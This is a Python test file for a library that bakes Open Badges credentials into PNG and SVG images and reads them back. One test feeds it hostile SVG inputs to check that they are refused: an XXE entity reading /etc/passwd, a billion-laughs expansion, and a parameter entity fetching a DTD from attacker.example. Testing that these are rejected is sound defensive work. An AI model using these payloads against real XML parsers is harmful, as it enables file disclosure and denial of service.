"""Baking Open Badges into PNG and SVG images, as the 1EdTech OB 2.0 and OB 3.0 specs say."""

from __future__ import annotations

import io
import json
import struct
import zlib
from typing import Any

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngImageFile, PngInfo

from badges import bake as b
from tests.servers import missing

CREDENTIAL: dict[str, Any] = {
    "@context": ["https://www.w3.org/ns/credentials/v2", "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json"],
    "id": "urn:uuid:4f6a1b2e-0000-4000-8000-000000000001",
    "type": ["VerifiableCredential", "OpenBadgeCredential"],
    "issuer": {"id": "https://eclats.example/issuer", "type": ["Profile"], "name": "Mission Locale"},
    "validFrom": "2026-05-01T00:00:00Z",
    "name": "Éclat d'avenir — « curiosité »",
    "credentialSubject": {"type": ["AchievementSubject"], "achievement": {"id": "urn:x:1", "name": "Curiosité"}},
}
ASSERTION: dict[str, Any] = {
    "@context": "https://w3id.org/openbadges/v2",
    "id": "https://eclats.example/assertions/123",
    "type": "Assertion",
    "recipient": {"type": "email", "hashed": False, "identity": "alice@example.org"},
    "issuedOn": "2026-05-01T00:00:00+00:00",
    "verification": {"type": "hosted"},
    "badge": "https://eclats.example/badges/5",
}
JWS = "eyJhbGciOiJFZERTQSJ9.eyJ2YyI6e319.c2lnbmF0dXJl"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4" fill="#c33"/></svg>\n'
)


def make_png(mode: str = "RGBA", pnginfo: PngInfo | None = None) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, (16, 16), "red").save(buffer, "PNG", pnginfo=pnginfo)
    return buffer.getvalue()


def chunks(data: bytes) -> list[tuple[bytes, bytes, int]]:
    """(type, body, stored CRC) of every chunk, read independently of badges.bake."""
    out = []
    pos = 8
    while pos < len(data):
        (length,) = struct.unpack_from(">I", data, pos)
        ctype = data[pos + 4 : pos + 8]
        body = data[pos + 8 : pos + 8 + length]
        (crc,) = struct.unpack_from(">I", data, pos + 8 + length)
        out.append((ctype, body, crc))
        pos += 12 + length
    return out


# ---------------------------------------------------------------- PNG


@pytest.mark.parametrize(
    ("version", "keyword", "payload"),
    [("3.0", "openbadgecredential", CREDENTIAL), ("3.0", "openbadgecredential", JWS), ("2.0", "openbadges", ASSERTION)],
)
def test_png_round_trip_uses_the_spec_keyword(version: b.OBVersion, keyword: str, payload: Any) -> None:
    baked = b.bake_png(make_png(), payload, version=version)

    text = b.unbake_png(baked)
    expected = payload if isinstance(payload, str) else json.dumps(payload, ensure_ascii=False, separators=(",", ":"))
    assert text == expected
    assert b.extract_png(baked) == b.BakedBadge(version, expected)
    if isinstance(payload, dict):
        assert json.loads(text) == payload
    itxt = [body for ctype, body, _ in chunks(baked) if ctype == b"iTXt"]
    # keyword, NUL, compression flag 0, method 0, empty language tag, empty translated keyword, UTF-8 text
    assert itxt == [keyword.encode() + b"\x00\x00\x00\x00\x00" + expected.encode("utf-8")]


def test_baked_png_is_still_a_valid_png() -> None:
    original = make_png()
    baked = b.bake_png(original, CREDENTIAL, version="3.0")

    found = chunks(baked)
    assert [c[0] for c in found][:2] == [b"IHDR", b"iTXt"]  # right after IHDR
    assert found[-1][0] == b"IEND"
    for ctype, body, crc in found:
        assert zlib.crc32(ctype + body) == crc, ctype
    with Image.open(io.BytesIO(baked)) as image:  # Pillow checks every CRC as it reads
        assert isinstance(image, PngImageFile)
        image.load()
        assert image.size == (16, 16)
        assert json.loads(image.text["openbadgecredential"]) == CREDENTIAL
    with Image.open(io.BytesIO(original)) as before, Image.open(io.BytesIO(baked)) as after:
        assert before.tobytes() == after.tobytes()


def test_png_without_badge_unbakes_to_none() -> None:
    assert b.unbake_png(make_png()) is None
    assert b.unbake(make_png()) is None


def test_png_already_baked_is_refused_unless_replace() -> None:
    baked = b.bake_png(make_png(), ASSERTION, version="2.0")

    with pytest.raises(b.BakeError) as refused:
        b.bake_png(baked, CREDENTIAL, version="3.0")
    assert refused.value.message == "Cette image contient déjà un badge."

    rebaked = b.bake_png(baked, CREDENTIAL, version="3.0", replace=True)
    assert b.extract_png(rebaked) == b.BakedBadge("3.0", b.serialize_payload(CREDENTIAL))
    assert b.unbake_png(rebaked, version="2.0") is None  # the old 2.0 chunk is gone: one badge per image
    assert sum(1 for ctype, _, _ in chunks(rebaked) if ctype == b"iTXt") == 1


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(lambda d: d[:8] + d[9:], id="signature"),
        pytest.param(lambda d: b"GIF89a" + d[6:], id="not-a-png"),
        pytest.param(lambda d: d[:20] + bytes([d[20] ^ 0xFF]) + d[21:], id="ihdr-crc"),
        pytest.param(lambda d: d[:-6] + bytes([d[-6] ^ 0x01]) + d[-5:], id="iend-crc"),
        pytest.param(lambda d: d[: len(d) // 2], id="truncated"),
        pytest.param(lambda d: b"", id="empty"),
    ],
)
def test_corrupted_png_is_refused_in_french(damage: Any) -> None:
    data = damage(make_png())

    with pytest.raises(b.BakeError, match=r"^Ce fichier n'est pas une image PNG valide\.$"):
        b.unbake_png(data)
    with pytest.raises(b.BakeError, match=r"^Ce fichier n'est pas une image PNG valide\.$"):
        b.bake_png(data, CREDENTIAL, version="3.0")


def test_images_over_5_mb_are_refused() -> None:
    huge = make_png() + b"\x00" * (5 * 1024 * 1024)
    with pytest.raises(b.BakeError, match="5 Mo"):
        b.bake_png(huge, CREDENTIAL, version="3.0")
    with pytest.raises(b.BakeError, match="5 Mo"):
        b.unbake_svg(SVG + b" " * (5 * 1024 * 1024))


@pytest.mark.parametrize("payload", ["", "pas un badge", "[1, 2]", "{not json"])
def test_unknown_payloads_are_refused(payload: str) -> None:
    with pytest.raises(b.BakeError, match="Contenu du badge non reconnu"):
        b.bake_png(make_png(), payload, version="3.0")


def test_ob3_bakes_the_credential_not_a_link() -> None:
    with pytest.raises(b.BakeError):
        b.bake_png(make_png(), "https://eclats.example/credentials/1", version="3.0")
    baked = b.bake_png(make_png(), "https://eclats.example/assertions/1", version="2.0")
    assert b.unbake_png(baked) == "https://eclats.example/assertions/1"


# ---------------------------------------------------------------- interop with other bakers


def test_reads_a_png_baked_by_pillow() -> None:
    info = PngInfo()
    info.add_itxt("openbadges", json.dumps(ASSERTION))
    assert json.loads(b.unbake_png(make_png(pnginfo=info)) or "") == ASSERTION

    compressed = PngInfo()  # compression is forbidden when baking, but a reader copes with it
    compressed.add_itxt("openbadgecredential", json.dumps(CREDENTIAL), zip=True)
    assert b.extract_png(make_png(pnginfo=compressed)) == b.BakedBadge("3.0", json.dumps(CREDENTIAL))


def test_reads_a_legacy_text_chunk() -> None:
    info = PngInfo()
    info.add_text("openbadges", "https://eclats.example/assertions/1")
    assert b.unbake_png(make_png(pnginfo=info)) == "https://eclats.example/assertions/1"


# openbadges-bakery (Concentric Sky's reference baker) calls a deprecated rfc3986 helper on SVG
@pytest.mark.filterwarnings("ignore:Please use rfc3986.validators.Validator:DeprecationWarning")
def test_interop_with_openbadges_bakery() -> None:
    try:
        import openbadges_bakery as bakery
    except ImportError:
        missing("openbadges-bakery (pip install -e '.[test]')")
    assertion = json.dumps(ASSERTION)

    theirs = bakery.bake(io.BytesIO(make_png()), assertion).read()
    assert b.unbake_png(theirs) == assertion

    ours = b.bake_png(make_png(), assertion, version="2.0")
    assert bakery.unbake(io.BytesIO(ours)) == assertion

    their_svg = bakery.bake(io.BytesIO(SVG), assertion).read()
    assert b.extract_svg(their_svg) == b.BakedBadge("2.0", assertion, ASSERTION["id"])
    our_svg = b.bake_svg(SVG, assertion, version="2.0")
    assert bakery.unbake(io.BytesIO(our_svg)) == ASSERTION["id"]  # it prefers the verify attribute


# ---------------------------------------------------------------- SVG


def test_svg_round_trip_ob3_credential_json() -> None:
    baked = b.bake_svg(SVG, CREDENTIAL, version="3.0")

    assert json.loads(b.unbake_svg(baked) or "") == CREDENTIAL
    assert b.unbake(baked) == b.BakedBadge("3.0", b.serialize_payload(CREDENTIAL))
    text = baked.decode("utf-8")
    assert 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"' in text
    assert '<openbadges:credential><![CDATA[{"@context"' in text
    assert "verify=" not in text  # embedded proof: no verify attribute
    assert text.index("<openbadges:credential>") < text.index("<circle")  # directly after <svg>
    assert "<circle" in text and 'viewBox="0 0 10 10"' in text


def test_svg_round_trip_ob3_jws_goes_in_verify() -> None:
    baked = b.bake_svg(SVG, JWS, version="3.0")
    assert f'<openbadges:credential verify="{JWS}"/>' in baked.decode()
    assert b.extract_svg(baked) == b.BakedBadge("3.0", JWS, JWS)


def test_svg_round_trip_ob2_hosted_assertion() -> None:
    baked = b.bake_svg(SVG, ASSERTION, version="2.0")

    text = baked.decode("utf-8")
    assert 'xmlns:openbadges="http://openbadges.org"' in text
    assert '<openbadges:assertion verify="https://eclats.example/assertions/123"><![CDATA[' in text
    found = b.extract_svg(baked)
    assert found is not None and found.version == "2.0" and found.verify == ASSERTION["id"]
    assert json.loads(found.payload) == ASSERTION


def test_svg_json_containing_cdata_end_still_round_trips() -> None:
    credential = {**CREDENTIAL, "name": "a ]]> b"}
    baked = b.bake_svg(SVG, credential, version="3.0")
    assert json.loads(b.unbake_svg(baked) or "") == credential


def test_svg_already_baked_is_refused_unless_replace() -> None:
    baked = b.bake_svg(SVG, ASSERTION, version="2.0")
    with pytest.raises(b.BakeError, match="déjà un badge"):
        b.bake_svg(baked, CREDENTIAL, version="3.0")

    rebaked = b.bake_svg(baked, CREDENTIAL, version="3.0", replace=True)
    assert b.unbake_svg(rebaked, version="2.0") is None
    text = rebaked.decode()
    assert text.count("<openbadges:") == 1 and text.count("xmlns:openbadges=") == 1
    assert b.extract_svg(rebaked) == b.BakedBadge("3.0", b.serialize_payload(CREDENTIAL))


def test_svg_without_badge_unbakes_to_none() -> None:
    assert b.unbake_svg(SVG) is None


@pytest.mark.parametrize(
    "hostile",
    [
        pytest.param(
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
            id="external-entity",
        ),
        pytest.param(
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
            b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
            b'<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><svg xmlns="http://www.w3.org/2000/svg">&d;</svg>',
            id="billion-laughs",
        ),
        pytest.param(
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"/>',
            id="parameter-entity",
        ),
    ],
)
def test_hostile_svg_is_refused(hostile: bytes) -> None:
    with pytest.raises(b.BakeError, match="déclarations interdites"):
        b.unbake_svg(hostile)
    with pytest.raises(b.BakeError, match="déclarations interdites"):
        b.bake_svg(hostile, CREDENTIAL, version="3.0")


@pytest.mark.parametrize(
    "bad",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>',
        b"<html><body/></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg">' + b"<g>" * 1000 + b"</g>" * 1000 + b"</svg>",
    ],
)
def test_malformed_svg_is_refused_in_french(bad: bytes) -> None:
    with pytest.raises(b.BakeError, match=r"^Ce fichier n'est pas une image SVG valide\.$"):
        b.unbake_svg(bad)


def test_format_detection() -> None:
    assert b.image_format(make_png()) == "png"
    assert b.image_format(SVG) == "svg"
    with pytest.raises(b.BakeError, match="PNG ou SVG"):
        b.bake(b"GIF89a....", CREDENTIAL, version="3.0")
    assert b.unbake(b.bake(make_png(), CREDENTIAL, version="3.0")) == b.unbake(b.bake(SVG, CREDENTIAL, version="3.0"))
